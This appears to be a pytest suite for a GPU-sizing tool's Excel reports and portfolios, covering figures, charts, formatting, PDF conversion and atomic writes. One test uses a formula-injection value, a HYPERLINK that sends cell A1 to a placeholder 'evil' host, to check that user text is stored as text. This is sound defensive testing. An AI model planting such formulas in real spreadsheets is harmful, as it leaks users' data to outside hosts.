"""Report workbooks: numbers equal the core's, charts point at the right cells, LibreOffice
converts them, writes are atomic."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

import xlsizer
from xlsizer.outpaths import save_atomic
from xlsizer.results import SCENARIOS
from xlsizer.summary import confidence_range, summary_rows
from xlsizer.workbook import report as rp
from xlsizer.workbook.checklist import fill
from xlsizer.workbook.markdown import decision_log_markdown

EXAMPLES = Path(__file__).resolve().parents[1] / "workbooks" / "examples"

BUILT_IN = {
    "default": {},
    "worked": dict(workload_type="rag", model="llama-3.3-70b", precision="fp8", kv_cache_dtype="fp8",
                   avg_prompt_tokens=6000, avg_output_tokens=250, concurrent_users=80,
                   requests_per_user_per_minute=4, target_tpot_ms=40, burst_factor=2.5,
                   speculative_decoding=True),
    "small": dict(model="llama-3.1-8b", concurrent_users=20, workload_type="interactive_chat"),
}


def _example_paths() -> list[Path]:
    return sorted(p for p in EXAMPLES.glob("*.xlsx") if not p.name.startswith("~$")) if EXAMPLES.is_dir() else []


def _projects() -> list[tuple[str, object]]:
    out: list[tuple[str, object]] = []
    checklist = fill({"users": ("done", 80, "peak from the call-centre logs", None),
                      "latency": ("in progress", 40, "agreed with the app owner", None)})
    for name, values in BUILT_IN.items():
        inputs = xlsizer.make_inputs(values)
        out.append((name, SimpleNamespace(name=name, path=f"{name}.xlsx", inputs=inputs, checklist=checklist)))
    return out


PROJECTS = _projects()


def _read_project(path: Path):
    from xlsizer.workbook.project import read_project

    return read_project(path)


@pytest.fixture(scope="module")
def reports(tmp_path_factory) -> list[tuple[object, Path]]:
    """(project, report path) for every built-in case and every shipped example."""
    out_dir = tmp_path_factory.mktemp("reports")
    items = [p for _, p in PROJECTS]
    from xlsizer.workbook.template import write_template

    for name in ("worked", "small"):  # round trip through a filled template
        tpl = write_template(out_dir / f"in-{name}.xlsx", values=BUILT_IN[name], checklist=PROJECTS[0][1].checklist,
                             name=f"template {name}")
        items.append(_read_project(tpl))
    for path in _example_paths():
        items.append(_read_project(path))
    done = []
    for i, project in enumerate(items):
        result = xlsizer.size(project.inputs)
        done.append((project, rp.write_report(project, result, out_dir / f"r{i}-{project.name}.xlsx")))
    return done


def same(v):
    """Excel keeps 15 significant digits; openpyxl writes floats that way."""
    return pytest.approx(v, rel=1e-14) if isinstance(v, float) else v


def label_rows(ws, first: int = 1) -> dict[str, int]:
    """{text in column A: row}, the first row with values beside it (a section heading such as
    "Fabric" shares its label with its row)."""
    out: dict[str, int] = {}
    for r in range(ws.max_row, first - 1, -1):
        v = ws.cell(row=r, column=1).value
        if isinstance(v, str) and (v not in out or ws.cell(row=r, column=2).value is not None):
            out[v] = r
    return out


def test_examples_are_shipped():
    try:
        import xlsizer.workbook.examples  # noqa: F401
    except ImportError:
        if not _example_paths():
            pytest.skip("the example projects (xlsizer.workbook.examples) are not in this tree yet")
    assert _example_paths(), "workbooks/examples holds no filled templates"


def test_report_numbers_equal_the_core(reports):
    for project, path in reports:
        result = xlsizer.size(project.inputs)
        wb = load_workbook(path)
        ws = wb["Summary"]
        assert ws["B3"].value == result.headline
        assert ws["B3"].value.startswith("Plan on ")
        # the Summary's scenario table is summary.summary_rows, value for value
        top = _summary_header(ws)
        r = top + 1
        for row in summary_rows(result):
            while ws.cell(row=r, column=1).value != row.label:
                r += 1
            assert [ws.cell(row=r, column=c).value for c in (2, 3, 4)] == [same(v) for v in row.values], row.label
            assert ws.cell(row=r, column=5).value == (row.unit or None)
        det = wb["Details"]
        rows = label_rows(det, 4)
        for _title, section in rp.SUMMARY_SECTIONS:
            for label, _unit, get in section:
                for col, k in zip((2, 3, 4), SCENARIOS, strict=True):
                    want = rp._cell_value(get(result.scenarios[k]))
                    assert det.cell(row=rows[label], column=col).value == same(want), (path.name, label, k)
        costs = [rp.cost_of(result.scenarios[k]) for k in SCENARIOS]
        for col, c in zip((2, 3, 4), costs, strict=True):
            assert det.cell(row=rows["Monthly cost"], column=col).value == same(c["monthly"])
        # what would change the answer: each line is a real re-sizing
        r = rows["Change"] + 1
        for w in rp.what_ifs(project.inputs):
            assert det.cell(row=r, column=1).value == w.change
            assert det.cell(row=r, column=3).value == w.total_gpus
            r += 1
        # warnings, assumptions, checklist
        warn = [c.value for c in wb["Warnings"]["B"][3:] if c.value]
        assert warn == [w for _, w in rp.all_warnings(result)]
        steps = result.explain()
        asm = wb["Assumptions"]
        first = rp.ASSUMPTIONS_FIRST
        assert asm.max_row == first - 1 + len(steps)
        assert asm["C4"].value == result.confidence["low"] and asm["D4"].value == result.confidence["high"]
        for i, st in enumerate(steps, start=first):
            assert [asm.cell(row=i, column=c).value for c in range(1, 7)] == [
                st.scenario, st.name, same(st.value), st.unit or None, st.formula, rp.readable_source(st.source)]
        chk = wb["Checklist"]
        items = list(project.checklist or [])
        assert chk["B3"].value == len(items)
        assert chk["B4"].value == sum(1 for it in items if rp.is_open(it.status))


def _summary_header(ws) -> int:
    return next(r for r in range(1, ws.max_row + 1)
                if [ws.cell(row=r, column=c).value for c in range(2, 6)] == ["Baseline", "Burst", "Resilient", "Unit"])


def _ref(obj) -> str:
    """A series' range without the $ signs."""
    return (obj.numRef or obj.strRef).f.replace("$", "")


def test_charts_point_at_the_right_cells(reports):
    for project, path in reports:
        wb = load_workbook(path)
        inputs = project.inputs
        # memory breakdown (Details): one series per part (its row B:D), categories = the scenario header
        ws = wb["Details"]
        rows = label_rows(ws, 4)
        (bar,) = ws._charts
        assert [s.tx.strRef.f.replace("$", "") for s in bar.series] == [
            f"'Details'!A{rows[label]}" for label, _ in rp.MEMORY_PARTS]
        assert [_ref(s.val) for s in bar.series] == [f"'Details'!B{rows[label]}:D{rows[label]}"
                                                     for label, _ in rp.MEMORY_PARTS]
        assert all(_ref(s.cat) == "'Details'!B3:D3" for s in bar.series)
        assert [ws.cell(row=3, column=c).value for c in (2, 3, 4)] == ["Baseline", "Burst", "Resilient"]

        # waterfall: replicas and total GPUs per step, and the monthly cost beside them
        from xlsizer.engine.waterfall import waterfall

        steps = waterfall(inputs)
        wf = wb["Waterfall"]
        (wbar,) = wf._charts
        last = 3 + len(steps)
        assert [_ref(s.val) for s in wbar.series] == [f"'Waterfall'!B4:B{last}", f"'Waterfall'!C4:C{last}"]
        assert _ref(wbar.series[0].cat) == f"'Waterfall'!A4:A{last}"
        for i, st in enumerate(steps, start=4):
            assert (wf.cell(row=i, column=1).value, wf.cell(row=i, column=2).value,
                    wf.cell(row=i, column=3).value) == (st.label, st.replicas, st.total_gpus)
            want = same(st.monthly_cost) if st.monthly_cost is not None else "no price"
            assert wf.cell(row=i, column=6).value == want

        # sensitivity: per input, a GPUs chart and a cost chart; scatter (value x axis), straight lines with
        # markers, three scenario series and the current input as a lone marker
        sens = wb["Sensitivity"]
        charts = sens._charts
        assert len(charts) == 4
        for pair, field in zip((charts[0:2], charts[2:4]), ("concurrent_users", "target_tpot_ms"), strict=True):
            for chart, cols, cur_col in zip(pair, ("BCD", "EFG"), "HI", strict=True):
                assert chart.tagname == "scatterChart"
                xs = {_ref(s.xVal) for s in chart.series}
                assert len(xs) == 1
                (x,) = xs
                top, last = (int(v.split("!")[-1][1:]) for v in x.split(":"))
                assert x == f"'Sensitivity'!A{top}:A{last}"
                assert 8 <= last - top + 1 <= 10
                assert [_ref(s.yVal) for s in chart.series] == [
                    f"'Sensitivity'!{c}{top}:{c}{last}" for c in cols + cur_col]
                assert all(s.smooth is False or s.smooth is None for s in chart.series)
                assert all(s.marker is not None and s.marker.symbol for s in chart.series)
                assert chart.series[-1].spPr.ln.noFill
            for r in range(top, last + 1):
                x = sens.cell(row=r, column=1).value
                try:
                    res = xlsizer.size(inputs.model_dump(exclude_unset=True) | {field: x})
                except xlsizer.XlsizerError:
                    assert sens.cell(row=r, column=10).value
                    continue
                assert [sens.cell(row=r, column=c).value for c in (2, 3, 4)] == [
                    res.scenarios[k].total_gpus for k in SCENARIOS]
                assert [sens.cell(row=r, column=c).value for c in (5, 6, 7)] == [
                    same(res.scenarios[k].extra["cost"]["monthly"]) for k in SCENARIOS]
                base = inputs.concurrent_users if field == "concurrent_users" else inputs.tpot_ms
                marked = sens.cell(row=r, column=8).value
                assert (marked == res.burst.total_gpus) if x == base else marked is None


# --- a brief a finance reviewer trusts (issue 14) ----------------------------------------------
def _numeric_cells(ws):
    for row in ws.iter_rows():
        for c in row:
            if isinstance(c.value, int | float) and not isinstance(c.value, bool):
                yield c


def test_no_number_in_general_format(reports):
    for _project, path in reports:
        wb = load_workbook(path)
        for name in ("Summary", "Details", "Waterfall", "Sensitivity", "Assumptions", "Checklist"):
            bad = [c.coordinate for c in _numeric_cells(wb[name]) if c.number_format == "General"]
            assert not bad, (path.name, name, bad[:5])


MONEY_WORDS = ("cost", "capex", "spend")
PERIODS = ("/month", "/year", "one-off", "/M tokens", "/M output tokens", "/user/month")


def test_every_cost_row_has_currency_and_period(reports):
    for project, path in reports:
        cur = project.inputs.currency
        wb = load_workbook(path)
        for name in ("Summary", "Details"):
            ws = wb[name]
            n = 0
            for r in range(1, ws.max_row + 1):
                label = ws.cell(row=r, column=1).value
                if not isinstance(label, str) or not any(w in label.lower() for w in MONEY_WORDS):
                    continue
                if not any(isinstance(ws.cell(row=r, column=c).value, int | float) for c in (2, 3, 4)):
                    continue  # a heading or a what-if line, not a money row
                unit = ws.cell(row=r, column=5).value or ""
                assert cur in unit and any(p in unit for p in PERIODS), (path.name, name, label, unit)
                n += 1
            assert n >= 3, (path.name, name)
        # the Summary names the pricing model and currency in the section heading too
        assert any(f"Cost ({project.inputs.pricing_model}, {cur})" == c.value for c in wb["Summary"]["A"])


def _align(c) -> str:
    """Effective horizontal alignment: 'general' puts numbers right and text left."""
    h = c.alignment.horizontal if c.alignment is not None else None
    if h in (None, "general"):
        return "right" if isinstance(c.value, int | float) else "left"
    return h


def test_headers_align_like_the_numbers_below(reports):
    for _project, path in reports:
        wb = load_workbook(path)
        checked = 0
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for h in row:
                    if h.fill is None or h.fill.fgColor is None or h.fill.fgColor.rgb != "00D9E1F2" or not h.value:
                        continue  # header cells carry the header fill
                    below = []
                    r = h.row + 1
                    while r <= ws.max_row and ws.cell(row=r, column=h.column).fill.fgColor.rgb != "00D9E1F2":
                        c = ws.cell(row=r, column=h.column)
                        if isinstance(c.value, int | float) and not isinstance(c.value, bool):
                            below.append(c)
                        r += 1
                    for c in below:
                        assert _align(c) == _align(h), (path.name, ws.title, h.coordinate, c.coordinate)
                    checked += len(below)
        assert checked > 100, path.name


def test_summary_is_one_page_with_the_brief(reports):
    for project, path in reports:
        result = xlsizer.size(project.inputs)
        ws = load_workbook(path)["Summary"]
        ps = ws.page_setup
        assert ps.orientation == "landscape" and ps.fitToWidth == 1 and ps.fitToHeight == 1
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        text = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        # confidence range as GPUs and money, top warnings (at most three) and drivers
        rows = label_rows(ws)
        gpus, money = confidence_range(result)
        assert [ws.cell(row=rows["Total GPUs"], column=c).value for c in (2, 3)] == list(gpus)
        assert ws.cell(row=rows["Total GPUs"], column=5).value == "GPUs"
        if money is not None:
            assert [ws.cell(row=rows["Monthly cost"], column=c).value for c in (2, 3)] == [same(m) for m in money]
        warns = rp.all_warnings(result)
        shown = [t for t in text if t.startswith("- ") and t[2:] in {rp.warning_line(sc, w) for sc, w in warns}]
        assert len(shown) == min(3, len(warns))
        assert any(t.startswith("Drivers") for t in text)
        # every scenario's meaning is a row of the table: Resilient's burst-factor floor and spares
        top = _summary_header(ws)
        labels = {ws.cell(row=r, column=1).value: r for r in range(top, ws.max_row + 1)}
        bf = [ws.cell(row=labels["Burst factor (peak / average)"], column=c).value for c in (2, 3, 4)]
        assert bf == [1.0, result.inputs.burst_factor, max(result.inputs.burst_factor, 3.0)]
        spares = [ws.cell(row=labels["Spare replicas"], column=c).value for c in (2, 3, 4)]
        assert spares == [s.replicas - s.active_replicas for s in result.scenarios.values()]
        assert spares[2] >= 2


def test_wrapped_text_rows_are_tall_enough(reports):
    """No text is cut off: a wrapped cell whose text is longer than its column gets a taller row."""
    for _project, path in reports[:4]:
        wb = load_workbook(path)
        for ws in wb.worksheets:
            merged = {(m.min_row, m.min_col): m for m in ws.merged_cells.ranges}
            for row in ws.iter_rows():
                for c in row:
                    if not isinstance(c.value, str) or not (c.alignment and c.alignment.wrap_text):
                        continue
                    m = merged.get((c.row, c.column))
                    cols = range(m.min_col, m.max_col + 1) if m else [c.column]
                    width = sum(ws.column_dimensions[get_column_letter(i)].width or 8.43 for i in cols)
                    if len(c.value) > width * 1.3 * 11 / (c.font.sz or 11):
                        h = ws.row_dimensions[c.row].height
                        assert h is not None and h >= 2 * 14, (path.name, ws.title, c.coordinate, c.value[:40])


def test_assumption_sources_are_readable(reports):
    for _project, path in reports:
        ws = load_workbook(path)["Assumptions"]
        for r in range(rp.ASSUMPTIONS_FIRST, ws.max_row + 1):
            src = ws.cell(row=r, column=6).value or ""
            assert src, (path.name, r)
            for code in (".py", "engine/", "issue ", "course.md", ".yaml", ".csv"):
                assert code not in src, (path.name, r, src)
    assert rp.readable_source("course.md §10.3 step 4") == "aisle course, §10.3 step 4"
    assert rp.readable_source("xlsizer cost model (engine/cost.py; issue 5)") == "xlsizer cost model"
    # a code path before a colon goes with its colon (the latency percentiles' source read "(: Pollaczek...")
    assert rp.readable_source("xlsizer latency percentiles (engine/latency.py: Pollaczek-Khinchine wait)") == \
        "xlsizer latency percentiles (Pollaczek-Khinchine wait)"


def test_user_text_is_never_a_formula(tmp_path):
    evil = '=HYPERLINK("http://evil/?"&A1)'
    checklist = fill({"users": ("done", evil, evil, None)})
    inputs = xlsizer.make_inputs({})
    project = SimpleNamespace(name=evil, path=evil, inputs=inputs, checklist=checklist)
    path = rp.write_report(project, xlsizer.size(inputs), tmp_path / "evil.xlsx")
    wb = load_workbook(path)
    hits = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert len(hits) >= 4
    assert all(c.data_type == "s" for c in hits)


def test_libreoffice_converts_every_report(reports, tmp_path):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice (soffice) is required in CI")
        pytest.skip("LibreOffice (soffice) is not installed")
    paths = [str(p) for _, p in reports]
    env = {**os.environ, "HOME": str(tmp_path)}  # its own profile: no clash with a running soffice
    proc = subprocess.run([soffice, "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path / "pdf"), *paths],
                          capture_output=True, text=True, timeout=300, env=env)
    for p in paths:
        pdf = tmp_path / "pdf" / (Path(p).stem + ".pdf")
        assert pdf.is_file() and pdf.stat().st_size > 5000, (p, proc.stdout, proc.stderr)
        assert pdf.read_bytes().startswith(b"%PDF")


def test_failed_write_leaves_no_file_and_keeps_the_old_one(tmp_path):
    _name, project = PROJECTS[0]
    result = xlsizer.size(project.inputs)
    target = tmp_path / "r.xlsx"
    target.write_bytes(b"old")

    def boom(path):
        Path(path).write_bytes(b"half")
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        save_atomic(boom, target)
    assert target.read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.xlsx"]
    rp.write_report(project, result, target)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.xlsx"]
    assert load_workbook(target).sheetnames == ["Summary", "Details", "Waterfall", "Sensitivity", "Warnings",
                                                "Checklist", "Assumptions"]


def test_markdown_decision_log_has_inputs_owners_reasons_results_warnings():
    _, project = PROJECTS[1]
    result = xlsizer.size(project.inputs)
    md = decision_log_markdown(project, result)
    assert result.headline in md
    for head in ("## Inputs", "## Results", "## Warnings", "## Checklist", "## Assumptions and sources"):
        assert head in md
    assert "| 3 Traffic | concurrent_users | Application owner | 80 | users | peak from the call-centre logs |" in md
    assert f"| Total GPUs | {result.baseline.total_gpus} | {result.burst.total_gpus} | " in md


# --- portfolio (issue 14) ------------------------------------------------------------------------
def _portfolio_rows():
    from xlsizer.workbook.portfolio import portfolio_row

    out = []
    for name, values in (("a", {"gpu": "h100-sxm"}), ("b", {"gpu": "h100-sxm", "concurrent_users": 300}),
                         ("c", {"gpu": "l40s", "model": "llama-3.1-8b"}),
                         ("d", {"gpu": "h200-sxm", "currency": "EUR", "pricing_model": "on-prem"}),
                         ("e", {"gpu": "a100-80gb", "pricing_model": "on-prem", "currency": "EUR",
                                "model": "llama-3.1-8b"})):
        inputs = xlsizer.make_inputs(values)
        project = SimpleNamespace(name=f"=project {name}", path=f"{name}.xlsx", inputs=inputs, checklist=[])
        out.append(portfolio_row(project, xlsizer.size(inputs), f"{name}-report.xlsx"))
    return out


def test_portfolio_totals_per_gpu_type_and_currency():
    from xlsizer.workbook.portfolio import build_portfolio
    from xlsizer.workbook.stored import stored_values

    rows = _portfolio_rows()
    wb = build_portfolio(rows)
    ws = wb["Portfolio"]
    stored = stored_values(wb)
    labels = label_rows(ws, 4)
    # GPUs per GPU type, never across types
    gpu_head = labels["Totals by GPU type"] + 1
    assert [ws.cell(row=gpu_head, column=c).value for c in (1, 2, 3)] == ["GPU", "Projects", "GPUs in use"]
    by_gpu: dict[str, list] = {}
    for x in rows:
        by_gpu.setdefault(x.gpu, []).append(x)
    for r in range(gpu_head + 1, gpu_head + 1 + len(by_gpu)):
        gpu = ws.cell(row=r, column=1).value
        mine = by_gpu[gpu]
        assert stored[("Portfolio", f"B{r}")] == len(mine)
        assert stored[("Portfolio", f"C{r}")] == sum(x.gpus for x in mine)
        assert stored[("Portfolio", f"D{r}")] == sum(x.gpus_paid for x in mine)
        assert ws[f"C{r}"].value.startswith("=SUMIF(")
    assert by_gpu["NVIDIA H100 SXM 80GB"][0].gpus + by_gpu["NVIDIA H100 SXM 80GB"][1].gpus == stored[
        ("Portfolio", f"C{gpu_head + 1 + sorted(by_gpu).index('NVIDIA H100 SXM 80GB')}")]
    # money per currency (no conversion); an unpriced project is counted, not summed
    money_head = labels["Totals in money (per currency, no conversion)"] + 1
    for r in range(money_head + 1, money_head + 3):
        cur = ws.cell(row=r, column=1).value
        mine = [x for x in rows if x.currency == cur]
        monthly = sum(x.monthly_cost for x in mine if x.monthly_cost is not None)
        assert stored[("Portfolio", f"D{r}")] == pytest.approx(monthly)
        assert stored[("Portfolio", f"E{r}")] == pytest.approx(12 * monthly)
        assert stored[("Portfolio", f"C{r}")] == sum(1 for x in mine if x.monthly_cost is not None)
        assert cur in ws.cell(row=r, column=6).value
    assert {ws.cell(row=r, column=1).value for r in (money_head + 1, money_head + 2)} == {"USD", "EUR"}
    # every formula in the workbook has a recorded value
    formulas = {(w.title, c.coordinate) for w in wb.worksheets for row in w.iter_rows() for c in row
                if c.data_type == "f"}
    assert formulas and formulas <= set(stored)
    # project names are text, never formulas
    assert ws["A4"].value == "=project a" and ws["A4"].data_type == "s"


def test_portfolio_prints_readably():
    from xlsizer.workbook.portfolio import build_portfolio

    wb = build_portfolio(_portfolio_rows(), ["x.xlsx: bad input"])
    for ws in wb.worksheets:
        ps = ws.page_setup
        assert ps.orientation == "landscape" and ps.fitToWidth == 1 and ps.fitToHeight == 0  # pages as needed
    assert wb["Portfolio"].print_title_rows == "$3:$3" and wb["Headlines"].print_title_rows == "$3:$3"
    # wide text (headlines, paths) is on its own sheet, so the numbers print at a readable size
    width = sum(wb["Portfolio"].column_dimensions[get_column_letter(c)].width for c in range(1, 13))
    assert width <= 170


def test_portfolio_totals_have_stored_values_in_the_file(tmp_path):
    """Read back as a viewer without the add-in would (data_only): the totals carry their values."""
    from xlsizer.workbook.portfolio import write_portfolio

    rows = _portfolio_rows()
    path = write_portfolio(rows, tmp_path / "portfolio.xlsx")
    ws = load_workbook(path, data_only=True)["Portfolio"]
    total = 4 + len(rows)
    assert ws.cell(row=total, column=6).value == pytest.approx(sum(x.it_kw for x in rows))
    values = [c.value for row in ws.iter_rows(min_row=total) for c in row]
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)


def test_confidence_range_divides_by_the_capacity_error():
    """Capacity measured 11% below the prediction needs 1/0.89 of the GPUs: 25 -> 28.1 -> 29."""
    r = xlsizer.size(gpu="h100-sxm", concurrent_users=200)
    r2 = r.model_copy(update={"confidence": {"low": -0.11, "high": 0.09}})
    gpus, money = confidence_range(r2)
    n = r.burst.total_gpus
    import math

    assert gpus == (math.ceil(n / 1.09 - 1e-9), math.ceil(n / 0.89 - 1e-9))
    m = r.burst.extra["cost"]["monthly"]
    assert money == (pytest.approx(m / 1.09), pytest.approx(m / 0.89))
    assert gpus[0] <= n <= gpus[1]


def test_portfolio_headlines_fit_their_rows_and_columns(tmp_path):
    """Issue 24 item 6: the Headlines sheet wraps every cell in a row tall enough for its longest
    text (the last line of long headlines was cut) and a long project name wraps inside its
    column instead of running over; landscape, one page wide. Checked on the saved file."""
    import dataclasses

    from xlsizer.workbook.portfolio import write_portfolio
    from xlsizer.workbook.styles import LINE_PT, text_lines

    rows = _portfolio_rows()
    rows[0] = dataclasses.replace(rows[0], name="Supercalifragilisticexpialidocious-departmental-assistant-long")
    wb = load_workbook(write_portfolio(rows, tmp_path / "portfolio.xlsx"))
    ws = wb["Headlines"]
    checked = 0
    for r in range(4, 4 + len(rows)):
        for col in "ABCD":
            c = ws[f"{col}{r}"]
            assert c.alignment.wrap_text and c.alignment.vertical == "top", c.coordinate
            width = ws.column_dimensions[col].width
            assert ws.row_dimensions[r].height >= text_lines(str(c.value), width - 1) * LINE_PT, c.coordinate
            checked += 1
    assert checked == 4 * len(rows)
    for w in wb.worksheets:
        assert w.page_setup.orientation == "landscape" and w.page_setup.fitToWidth == 1, w.title


def test_confidence_band_says_what_it_covers(reports, tmp_path):
    """Issue 24 item 7: "Confidence -13% / +20%" read as the error of the whole plan while TTFT's
    measured error is larger. Wherever the band is shown it names the metric (throughput per
    replica), the data (serving runs, leave-one-model-out) and TTFT's error on the same runs."""
    from xlsizer.textout import result_table
    from xlsizer.workbook.stored import stored_values
    from xlsizer.workbook.template import build_workbook

    r = xlsizer.size(model="llama-3.3-70b", serving_engine="vllm")
    src = r.confidence["source"]
    for words in ("throughput per replica", "serving.csv", "leave-one-model-out", "TTFT", "median"):
        assert words in src, words
    band = f"{r.confidence['low']:+.0%} / {r.confidence['high']:+.0%}"
    assert f"Confidence of the throughput per replica (not TTFT): {band}" in result_table(r, what_if=False)
    wb = build_workbook({"model": "llama-3.3-70b"})
    assert stored_values(wb)[("Results", "B4")] == src
    assert wb["Results"]["A4"].value == "Confidence"
    _project, path = reports[0]
    ws = load_workbook(path)["Summary"]
    labels = label_rows(ws)
    assert "Model error on throughput per replica (not TTFT)" in labels
    conf = load_workbook(path)["Assumptions"]["E4"].value
    assert "throughput per replica" in conf and "TTFT" in conf


def test_warnings_sheet_names_the_scenarios_a_warning_holds_for():
    """A warning of some scenarios only goes to the Warnings sheet under their names, its text
    once (it was listed under 'all' and again under its scenario, and the Summary showed it
    twice); one of every scenario stays 'all'."""
    from xlsizer.api import size

    result = size(model="deepseek-r1", concurrent_users=300, gpu="gb200", throughput_source="course-table",
                  max_total_gpus=1_000_000)
    warns = rp.all_warnings(result)
    texts = [w for _, w in warns]
    assert len(texts) == len(set(texts)) == len(result.warnings)
    assert ("baseline", "pipeline parallelism: 4 stages across nodes (TPOT -10-20% per stage)") in warns
    assert ("burst, resilient", "pipeline parallelism: 9 stages across nodes (TPOT -10-20% per stage)") in warns
    assert ("all", "gb200 requires direct liquid cooling (and typically 415 V power distribution)") in warns
    assert [rp.warning_line(sc, w) for sc, w in warns] == result.warnings
